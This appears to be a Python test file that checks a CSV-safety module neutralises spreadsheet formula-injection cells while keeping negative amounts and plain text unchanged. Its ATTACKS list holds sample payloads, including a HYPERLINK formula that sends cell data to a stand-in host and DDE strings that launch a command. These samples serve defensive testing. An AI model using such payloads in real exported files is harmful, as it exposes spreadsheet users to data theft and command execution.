"""Every CSV cell we write is safe to open in a spreadsheet, and data cells keep their value."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st
from payout_jobs.csv_safety import FORMULA_STARTS, needs_neutralising, safe_cell, safe_writer

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=CMD|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # leading spaces in front of a formula
    "\uff1d1+1",  # full-width equals sign
    "\uff0bA1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "-",
    "-5.00+A1",
    "-1e3",
]


def written(cells: list[object]) -> list[str]:
    """The cells as a CSV reader reads them back after :func:`safe_writer` wrote them."""
    buffer = io.StringIO(newline="")
    safe_writer(buffer).writerow(cells)
    return next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


def test_formula_cells_are_neutralised() -> None:
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack, attack
        assert written([attack]) == ["'" + attack]


def test_plain_numbers_and_ordinary_text_keep_their_value() -> None:
    """A negative amount is data, not a formula: prefixing it would turn the number into text."""
    for value in ("-5.00", "-5", "0", "10.00", "125.50", "", "processed", "cpoi_abc", "a=b", "'=1"):
        assert safe_cell(value) == value
    assert safe_cell(None) == "" and safe_cell(-5) == "-5"
    assert written(["-5.00", 12, None, "x,y"]) == ["-5.00", "12", "", "x,y"]


@given(st.text())
def test_no_written_cell_can_start_a_formula(text: str) -> None:
    (cell,) = written([text])
    stripped = cell.lstrip()
    if (stripped and stripped[0] in FORMULA_STARTS) or cell[:1] in FORMULA_STARTS:
        assert not needs_neutralising(cell)
        assert cell[:1] == "-" and cell.lstrip("-").replace(".", "", 1).isdigit()  # a plain number
    if not needs_neutralising(text):
        assert cell == text  # anything harmless is written exactly as it was
    else:
        assert cell == "'" + text  # the value is all there, behind the text marker


@given(st.decimals(allow_nan=False, allow_infinity=False, places=2))
def test_amounts_are_written_as_they_are(amount: object) -> None:
    assert written([f"{amount:f}"]) == [f"{amount:f}"]
